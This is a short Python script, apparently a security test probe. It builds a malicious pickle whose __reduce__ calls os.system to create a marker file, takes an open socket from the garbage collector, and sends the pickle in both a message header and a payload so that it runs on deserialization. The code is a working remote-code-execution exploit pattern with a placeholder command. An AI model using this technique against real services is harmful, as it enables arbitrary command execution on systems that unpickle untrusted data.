"""Sends a pickle, in the header and in the payload, that would run a command when it is read."""
import gc
import os
import pickle
import socket

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/@PLANT@",)

def attack():
    channel = next(o for o in gc.get_objects() if type(o) is socket.socket)
    bomb = pickle.dumps(Bomb())
    for head, body in ((len(bomb), 0), (1, len(bomb))):
        channel.sendall(head.to_bytes(4, "little") + body.to_bytes(8, "little") + bomb)
    return 1
